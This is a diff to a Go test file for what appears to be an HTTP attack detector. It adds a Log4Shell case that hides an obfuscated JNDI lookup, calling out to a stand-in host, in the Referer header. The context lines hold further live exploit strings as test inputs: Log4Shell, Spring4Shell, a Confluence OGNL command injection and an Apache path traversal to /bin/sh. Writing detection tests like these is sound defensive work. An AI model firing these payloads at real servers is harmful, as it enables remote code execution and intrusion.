@@ -35,6 +35,11 @@ func TestHTTPAttackClasses(t *testing.T) {
 		{"log4shell in the path", one("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.66%3A1389%2Fa%7D", 404, browser), cve},
 		{"log4shell disguised", one("GET", "/${${lower:j}ndi:${lower:l}dap://x/a}", 400, browser), cve},
 		{"log4shell in the user agent", one("GET", "/", 200, "${jndi:ldap://192.0.2.66/a}"), []string{"http-cve-probe-header"}},
+		{"log4shell in the referer", []timed{{0, func() event.Event {
+			e := httpReq("GET", "/", 200, browser)
+			e.Referer = []byte("${jndi:${lower:l}${lower:d}a${lower:p}://x.example:80/callback}")
+			return e
+		}()}}, []string{"http-cve-probe-referer"}},
 		{"spring4shell", one("GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 200, browser), cve},
 		{"confluence ognl", one("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/", 302, browser), cve},
 		{"apache CVE-2021-41773", one("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, browser), []string{"http-cve-probe"}},
